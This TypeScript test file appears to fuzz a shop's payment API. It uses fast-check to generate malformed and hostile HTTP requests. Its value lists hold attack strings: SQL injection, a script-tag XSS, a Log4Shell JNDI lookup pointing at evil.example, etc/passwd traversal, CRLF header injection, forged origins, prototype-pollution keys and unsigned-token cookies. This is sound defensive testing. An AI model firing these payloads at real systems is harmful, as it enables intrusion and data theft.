/** Requests that no browser of the shop would send, and some that it would. */
import fc from 'fast-check';
import { COOKIE, CONSENT, ENDPOINT, SESSION_BODY } from '../../../server/support/shop.js';

/** What stands for itself, or is put in by the target: a cookie that it sealed, a token that it was sent. */
export interface HostileRequest {
  readonly method: string;
  readonly path: string;
  readonly headers: readonly (readonly [string, string])[];
  readonly cookie: CookieTrick;
  readonly body: Uint8Array<ArrayBuffer> | undefined;
}

/** How the sealed cookie is bent. `own` leaves it as it is. */
export type CookieTrick =
  | { readonly kind: 'none' | 'own' | 'placed' | 'foreign' | 'old-key' | 'foreign-key' }
  | { readonly kind: 'flipped' | 'cut'; readonly at: number }
  | { readonly kind: 'made-up'; readonly text: string };

/** Appears in requests only: no log line and no answer may hold it. */
export const AUTHORIZATION_TOKEN = 'b4bd3423-24e3-4fc3-8e0a-9d0c01fde5af';
export const PERSON = 'Zacharias-Quitzow';

const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

const CALLS = ['session', 'session/update', 'order', 'authorization/cancel'];
const path = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...CALLS) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'return/success',
      'return/failure',
      'return/cancel',
      'return/__proto__',
      'hooks/klarna/x',
      'hooks/payone',
      'hooks/klarna',
      'hooks/cybersource/x',
      '',
      '/',
      'session/',
      'session/../order',
      'session%2Fupdate',
      'order?authorization_token=x',
      '..%2f..%2fetc%2fpasswd',
      ...PROTOTYPE_NAMES,
    ),
  },
  { weight: 1, arbitrary: fc.webPath() },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
);

const method = fc.oneof(
  { weight: 12, arbitrary: fc.constant('POST') },
  {
    weight: 3,
    arbitrary: fc.constantFrom('GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'post', 'QUERY'),
  },
);

/** Latin-1 without line breaks: more than this no HTTP parser lets through. */
const headerValue = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.constantFrom(
    "' OR 1=1 --",
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.example/x}',
    '../../../etc/passwd',
    'x'.repeat(8_000),
    'null',
    'é\xff',
  ),
);
const header = fc.oneof(
  fc.tuple(
    fc.constantFrom('Origin', 'Sec-Fetch-Site', 'Host', 'X-Forwarded-Host', 'Referer'),
    fc.oneof(
      fc.constantFrom(
        'https://evil.example',
        'https://shop.example',
        'https://shop.example.evil.example',
        'null',
        'same-origin',
        'same-site',
        'cross-site',
        'none',
        '*',
      ),
      headerValue,
    ),
  ),
  fc.tuple(
    fc.constantFrom(
      'Content-Length',
      'Accept-Language',
      'User-Agent',
      'Idempotency-Key',
      'Cookie',
      'Authorization',
      'Access-Control-Request-Headers',
      'X-Cart',
      '__proto__',
    ),
    headerValue,
  ),
);
const contentType = fc.oneof(
  { weight: 8, arbitrary: fc.constant('application/json') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-16',
      'APPLICATION/JSON',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/json, text/html',
      'application/xml',
    ),
  },
);

const site = fc.oneof(
  { weight: 9, arbitrary: fc.constant('same-origin') },
  { weight: 1, arbitrary: fc.constantFrom('cross-site', 'none', 'same-site', 'SAME-ORIGIN') },
);

const hostileText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(
    '',
    '\u0000',
    '\r\nSet-Cookie: a=b',
    '\ud800',
    '\u202e',
    'a'.repeat(300),
    '</script>',
    '&add_paydata[action]=x',
    '<![CDATA[',
    ']]>',
    AUTHORIZATION_TOKEN,
    PERSON,
  ),
);
const json = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  hostileText,
  fc.constantFrom(Number.MAX_VALUE, -0, Number.MAX_SAFE_INTEGER + 2, true, null, [], {}),
);

/** A body of the contract of which some members are wrong, missing, doubled or too many. */
const person = fc.record(
  {
    given_name: fc.oneof(fc.constant(PERSON), json),
    family_name: fc.oneof(fc.constant('Q'), json),
    email: fc.oneof(fc.constant('person@example.com'), json),
    street_address: hostileText,
    postal_code: hostileText,
    city: hostileText,
    country: fc.oneof(fc.constant('DE'), json),
    phone: json,
  },
  { requiredKeys: [] },
);
const members = fc.oneof(
  fc.tuple(fc.constantFrom(...Object.keys(SESSION_BODY), ...PROTOTYPE_NAMES, 'category'), json),
  fc.tuple(fc.constant('consent'), fc.oneof(json, fc.constant(CONSENT))),
  fc.tuple(
    fc.constantFrom('customer', 'billing_address', 'shipping_address'),
    fc.oneof(person, json),
  ),
  fc.tuple(fc.constant('authorization_token'), fc.oneof(fc.constant(AUTHORIZATION_TOKEN), json)),
  fc.tuple(fc.constantFrom('order_amount', 'order_lines', 'amount', 'workorderid'), json),
);
const written = fc
  .tuple(fc.boolean(), fc.array(members, { maxLength: 5 }))
  .map(([plausible, wrong]) => {
    const right: [string, unknown][] = plausible
      ? Object.entries({ ...SESSION_BODY, authorization_token: AUTHORIZATION_TOKEN })
      : [];
    // Written by hand: an object would lose doubled and prototype names.
    const pairs = [...right, ...wrong].map(
      ([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`,
    );
    return `{${pairs.join(',')}}`;
  });
const text = fc.oneof(
  { weight: 6, arbitrary: written },
  {
    weight: 1,
    arbitrary: fc.tuple(written, fc.nat({ max: 300 })).map(([whole, at]) => whole.slice(0, at)),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('{"a":', '['), fc.integer({ min: 1, max: 4_000 }))
      .map(([open, depth]) => open.repeat(depth) + '1' + (open === '[' ? ']' : '}').repeat(depth)),
  },
  { weight: 1, arbitrary: fc.nat({ max: 20_000 }).map((size) => `{"x":"${'x'.repeat(size)}"}`) },
  { weight: 1, arbitrary: fc.json() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'reference=R-1001&txaction=paid&key=wrong&mode=test&aid=12345',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
      '\ufeff{}',
      'null',
      '',
    ),
  },
);
const utf8 = new TextEncoder();
const body = fc.oneof(
  { weight: 12, arbitrary: text.map((value) => utf8.encode(value)) },
  {
    weight: 1,
    arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => new Uint8Array(bytes)),
  },
  { weight: 1, arbitrary: fc.constant(undefined) },
);

const cookie: fc.Arbitrary<CookieTrick> = fc.oneof(
  { weight: 5, arbitrary: fc.constant({ kind: 'own' as const }) },
  {
    weight: 5,
    arbitrary: fc.record({
      kind: fc.constantFrom('none', 'placed', 'foreign', 'old-key', 'foreign-key'),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({ kind: fc.constantFrom('flipped', 'cut'), at: fc.nat({ max: 600 }) }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('made-up' as const),
      text: fc.oneof(
        fc.string({ maxLength: 60 }),
        fc.constantFrom(
          'eyJhbGciOiJub25lIn0....',
          'eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AAAA.AAAA.AAAA',
          `a; ${COOKIE}=b`,
          '.'.repeat(5_000),
        ),
      ),
    }),
  },
);

/** What is spoiled in a request; the rest is as the element would send it. */
const SPOILED = ['everything', 'nothing', 'method', 'path', 'headers', 'cookie', 'body'] as const;

const headers = fc
  .record({
    site: fc.option(site, { freq: 20, nil: undefined }),
    contentType: fc.option(contentType, { freq: 20, nil: undefined }),
    further: fc.array(header, { maxLength: 3 }),
  })
  .map(({ site: fetchSite, contentType: type, further }): HostileRequest['headers'] => [
    ...(type === undefined ? [] : [['Content-Type', type] as const]),
    ...(fetchSite === undefined ? [] : [['Sec-Fetch-Site', fetchSite] as const]),
    ...further,
  ]);

export const hostileRequests: fc.Arbitrary<HostileRequest> = fc
  .record({
    spoiled: fc.constantFrom(...SPOILED),
    call: fc.constantFrom(...CALLS),
    hostile: fc.record({ method, path, headers, cookie, body }),
  })
  .map(({ spoiled, call, hostile }) => {
    const right: HostileRequest = {
      method: 'POST',
      path: call,
      headers: [
        ['Content-Type', 'application/json'],
        ['Sec-Fetch-Site', 'same-origin'],
        ['Idempotency-Key', 'key-1'],
      ],
      cookie: { kind: 'own' },
      body: utf8.encode(
        JSON.stringify({ ...SESSION_BODY, authorization_token: AUTHORIZATION_TOKEN }),
      ),
    };
    if (spoiled === 'everything') return hostile;
    return spoiled === 'nothing' ? right : { ...right, [spoiled]: hostile[spoiled] };
  });

/** `undefined` for what the platform itself refuses to build: such a request reaches no handler. */
export function build(
  hostile: HostileRequest,
  cookieHeader: string | undefined,
): Request | undefined {
  const { method: verb, path: where, headers: pairs, body: bytes } = hostile;
  try {
    const headers = new Headers();
    for (const [name, value] of pairs) headers.append(name, value);
    if (cookieHeader !== undefined) headers.append('Cookie', cookieHeader);
    const carries = bytes !== undefined && !/^(?:GET|HEAD)$/i.test(verb);
    return new Request(`${ENDPOINT}/${where}`, {
      method: verb,
      headers,
      ...(carries && { body: bytes }),
    });
  } catch {
    return undefined;
  }
}
